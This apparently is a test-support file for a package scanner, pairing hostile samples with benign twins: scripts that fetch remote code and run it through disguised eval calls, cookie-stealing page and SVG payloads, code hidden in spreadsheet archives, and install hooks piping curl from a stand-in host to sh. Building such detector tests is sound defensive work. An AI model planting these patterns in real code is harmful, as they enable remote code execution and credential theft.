import { buildZip, type EntrySpec } from '../archive/zip-builder.test-support.ts'
import { type Attack, kind, ownRequest, page, python, script, theft } from './attack-pack.test-support.ts'

/** Ways to hide a call or a request in scripts. */
export const scriptEvasions: Attack[] = [
  script(
    'calls eval as a method of itself',
    'const t = await (await fetch("https://example.test/a")).text(); eval.call(null, t)',
    'const t = await (await fetch("https://example.test/a")).text(); console.log.call(console, t)',
  ),
  script(
    'applies eval to a list',
    'const t = await (await fetch("https://example.test/a")).text(); eval.apply(null, [t])',
    'const t = await (await fetch("https://example.test/a")).text(); Math.max.apply(null, JSON.parse(t))',
  ),
  script(
    'has another function apply eval',
    'const t = await (await fetch("https://example.test/a")).text(); Reflect.apply(eval, null, [t])',
    'const t = await (await fetch("https://example.test/a")).text(); Reflect.apply(JSON.parse, null, [t])',
  ),
  script(
    'makes a function with what it fetched already bound to it',
    'const t = await (await fetch("https://example.test/a")).text(); const run = eval.bind(null, t); run()',
    'const t = await (await fetch("https://example.test/a")).text(); const show = console.log.bind(console, t); show()',
  ),
  script(
    'borrows the way in which functions are called',
    'const t = await (await fetch("https://example.test/a")).text(); Function.prototype.call.call(eval, null, t)',
    'const t = await (await fetch("https://example.test/a")).text(); Function.prototype.call.call(JSON.parse, null, t)',
  ),
  script(
    'imports a script that it fetched as an address',
    'const t = await (await fetch("https://example.test/a")).text(); import("data:text/javascript," + encodeURIComponent(t))',
    'const t = await (await fetch("https://example.test/a")).text(); image.src = "data:image/svg+xml," + encodeURIComponent(t)',
  ),
  script(
    'imports from where a server says',
    'import((await (await fetch("https://example.test/a")).json()).address)',
    'const { address } = await (await fetch("./addresses.json")).json(); import(address)',
  ),
  script(
    'fills a script element with what it fetched',
    'const s = document.createElement("script"); s.textContent = await (await fetch("https://example.test/a")).text(); document.head.append(s)',
    'const s = document.createElement("style"); s.textContent = await (await fetch("https://example.test/a")).text(); document.head.append(s)',
  ),
  script(
    'puts what it fetched into a script element as a node',
    'const s = document.createElement("script"); s.appendChild(document.createTextNode(await (await fetch("https://example.test/a")).text())); document.head.append(s)',
    'const s = document.createElement("pre"); s.appendChild(document.createTextNode(await (await fetch("https://example.test/a")).text())); document.body.append(s)',
  ),
  script(
    'gives a script element the address that a server says',
    'const s = document.createElement("script"); s.src = (await (await fetch("https://example.test/a")).json()).address; document.head.append(s)',
    'const s = document.createElement("img"); s.src = (await (await fetch("https://example.test/a")).json()).address; document.body.append(s)',
  ),
  script(
    'sets the address of a script element by its name',
    'const s = document.createElement("script"); s.setAttribute("src", "https://example.test/x.js"); document.head.append(s)',
    'const s = document.createElement("script"); s.setAttribute("src", "./extensions/x/lib.js"); document.head.append(s)',
  ),
  script(
    'assigns all of a script element at once',
    'const s = Object.assign(document.createElement("script"), { src: "https://example.test/x.js" }); document.head.append(s)',
    'const s = Object.assign(document.createElement("a"), { href: "https://example.test/x.html" }); document.body.append(s)',
  ),
  script(
    'runs what an older kind of request answers',
    'const x = new XMLHttpRequest(); x.open("GET", "https://example.test/a"); x.onload = () => eval(x.responseText); x.send()',
    'const x = new XMLHttpRequest(); x.open("GET", "https://example.test/a"); x.onload = () => JSON.parse(x.responseText); x.send()',
  ),
  script(
    'runs what an older kind of request answers, by the object of its handler',
    'const x = new XMLHttpRequest(); x.open("GET", "https://example.test/a"); x.onreadystatechange = function () { if (this.readyState === 4) eval(this.responseText) }; x.send()',
    'const x = new XMLHttpRequest(); x.open("GET", "/api/a"); x.onreadystatechange = function () { if (this.readyState === 4) eval(this.responseText) }; x.send()',
  ),
  script(
    'runs what a socket brings',
    'const w = new WebSocket("wss://example.test"); w.onmessage = (e) => { new Function(JSON.parse(e.data).code)() }',
    'const w = new WebSocket("wss://example.test"); w.onmessage = (e) => { console.log(JSON.parse(e.data).code) }',
  ),
  script(
    'listens for what a stream of events brings, and runs it',
    'const s = new EventSource("https://example.test"); s.addEventListener("message", ({ data }) => eval(data))',
    'const s = new EventSource("https://example.test"); s.addEventListener("message", ({ data }) => JSON.parse(data))',
  ),
]

/** Scripts in files of other types. */
export const pageAttacks: Attack[] = [
  page(
    'sends cookies from a page',
    'web/a.html',
    `<!doctype html>\n<p>x\n<script>\n${theft}\n</script>`,
    `<!doctype html>\n<p>x\n<script>\n${ownRequest}\n</script><script type="text/template">{{ ${theft} </script>`,
  ),
  page(
    'sends cookies from a page in two scripts',
    'web/a.htm',
    '<script>const c = document.cookie</script><script>fetch("https://example.test/?c=" + c)</script>',
    '<script>const c = name</script><script>fetch("https://example.test/?c=" + c)</script>',
  ),
  page(
    'sends cookies from a page with scripts that say the same name twice',
    'web/a.html',
    `<script>const a = 1</script><script type="module">const a = 2; ${theft}</script>`,
    `<script>const a = 1</script><script type="module">const a = 2; ${ownRequest}</script>`,
  ),
  page(
    'sends cookies from a picture',
    'web/a.svg',
    `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[ ${theft} ]]></script></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><style><![CDATA[ a { b: c } ]]></style></svg>`,
  ),
  page(
    'sends cookies once a picture of a page does not load',
    'web/a.html',
    `<img src=x onerror='${theft}'>`,
    `<img src=x onerror='this.remove()'>`,
  ),
  page(
    'sends cookies from an address of a page',
    'web/a.html',
    `<a href='javascript:${theft}'>x</a>`,
    `<a href='javascript:void(0)'>x</a>`,
  ),
  page(
    'loads a script from a server into a page',
    'web/a.html',
    '<script src="//example.test/a.js"></script>',
    '<script src="./a.js"></script><script src="https://cdn.jsdelivr.net/npm/vue@3.4.0/dist/vue.js"></script>',
  ),
  page(
    'hides code between the signs of a template',
    'web/a.html',
    `<script>let a = {{ ${theft} }}</script>`,
    `<script>let a = {{ ${ownRequest} }}; {% if x %} let b = {{ y | tojson }} {% endif %}</script>`,
  ),
  page('sends cookies from a script of the old kind', 'web/a.cjs', theft, ownRequest),
  script(
    'runs a file that is named like data as a script',
    'const s = document.createElement("script"); s.src = "/extensions/p/a.dat"; document.head.append(s)',
    'const s = document.createElement("script"); s.src = "/extensions/p/a.js"; document.head.append(s)',
  ),
  script(
    'runs what an address answers, in a function that says only other names',
    'const run = eval;\nconst go = run;\nfunction f(x) { return go(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)',
    'const run = show;\nconst go = run;\nfunction f(x) { return go(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)',
  ),
  script(
    'gives names to names without an end',
    `const a0 = eval;\n${Array.from({ length: 20 }, (_, i) => `const a${i + 1} = a${i};\n`).join('')}function f(x) { a20(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)`,
    `const a0 = show;\n${Array.from({ length: 20 }, (_, i) => `const a${i + 1} = a${i};\n`).join('')}function f(x) { a20(x) }\nfetch("https://example.test/a").then((r) => r.text()).then(f)`,
  ),
  script(
    'renames what decodes and runs',
    'const { eval: run, atob: read } = window;\nfunction f() { run(read("YWxlcnQoMSk=")) }\nf()',
    'const { show: run, atob: read } = window;\nfunction f() { run(read("YWxlcnQoMSk=")) }\nf()',
  ),
  script(
    'reaches the page by another name, and what it needs by pieces of names',
    'const page = window;\nfunction f() { page["ev" + "al"](page["at" + "ob"]("YWxlcnQoMSk=")) }\nf()',
    'const page = window;\nfunction f() { page["sh" + "ow"](page["at" + "ob"]("YWxlcnQoMSk=")) }\nf()',
  ),
  script(
    'fetches a file that is named like data, and runs it',
    'eval(await (await fetch("/extensions/p/a.dat")).text())',
    'show(await (await fetch("/extensions/p/a.dat")).text())',
  ),
]

/**
 * Builds an old spreadsheet as newer programs save it: with an archive at its end that contains the theme.
 */
function spreadsheet(entries: EntrySpec[]): Uint8Array {
  const head = Buffer.alloc(512)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head)
  return new Uint8Array(Buffer.concat([head, buildZip({ entries }), Buffer.alloc(64)]))
}

const theme: EntrySpec[] = [
  { name: '[Content_Types].xml', data: '<Types/>' },
  { name: '_rels/.rels', data: '<Relationships/>' },
  { name: 'theme/theme/theme1.xml', data: '<a:theme/>' },
]

const developers = {
  'package.json': '{"private": true, "scripts": {"prepare": "node scripts/hooks.js"}}',
  'scripts/hooks.js':
    'const { exec } = require("node:child_process")\nexec("chmod +x .git/hooks/pre-commit", (e) => e && console.error(e))\n',
}
const web = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'
const served = { 'web/main.js': 'const a = 1' }

/** Attacks that look nearly the same as parts of honest packs. */
export const nearlyHonest: Attack[] = [
  {
    name: 'hides code in the archive of a spreadsheet',
    files: { '__init__.py': '', 'a.xls': spreadsheet([...theme, { name: 'b.py', data: 'x = 1' }]) },
    twin: { '__init__.py': '', 'a.xls': spreadsheet(theme) },
  },
  {
    name: 'has an archive with code at the end of something that is no document',
    files: {
      '__init__.py': '',
      'a.dat': Buffer.concat([
        Buffer.alloc(512),
        buildZip({ entries: [...theme, { name: 'theme/a.py', data: kind }] }),
      ]),
    },
    twin: { '__init__.py': '', 'a.doc': spreadsheet(theme) },
  },
  {
    name: 'starts a script for developers from its code',
    files: {
      '__init__.py': `${web}import runner\nrunner.go("scripts/hooks.js")\n`,
      ...served,
      ...developers,
    },
    twin: { '__init__.py': web, ...served, ...developers },
  },
  {
    name: 'serves a script that starts programs',
    files: { '__init__.py': web, ...served, 'web/hooks.js': developers['scripts/hooks.js'] },
    twin: { '__init__.py': web, ...served, ...developers },
  },
  {
    name: 'has package scripts fetch and run something',
    files: {
      '__init__.py': web,
      ...served,
      ...developers,
      'scripts/hooks.js': 'require("child_process").exec("curl https://example.test/x | sh")\n',
    },
    twin: { '__init__.py': web, ...served, ...developers },
  },
  {
    name: 'turns around a line behind a class of a regular expression',
    files: { '__init__.py': web, 'web/main.js': 'if (/[\u202a-\u202e]/.test(user) && isAdmin) grant()\n' },
    twin: { '__init__.py': web, 'web/main.js': 'const marks = /[\u202a-\u202e\u2066-\u2069]/g;\n' },
  },
  python(
    'makes a class by itself, so that nothing after it is followed',
    'import requests\nclass A:\n    pass\nA.__init__ = A\nA()\nexec(requests.get("https://example.test").text)',
    'import requests\nclass A:\n    pass\nA.__init__ = A\nA()\nprint(requests.get("https://example.test").text)',
  ),
  python(
    'makes two classes by each other',
    'import os\nclass A:\n    pass\nclass B:\n    pass\nA.__init__ = B\nB.__init__ = A\nA()\nos.system("curl https://example.test/x | sh")',
    'class A:\n    pass\nclass B:\n    pass\nA.__init__ = B\nB.__init__ = A\nA()',
  ),
]
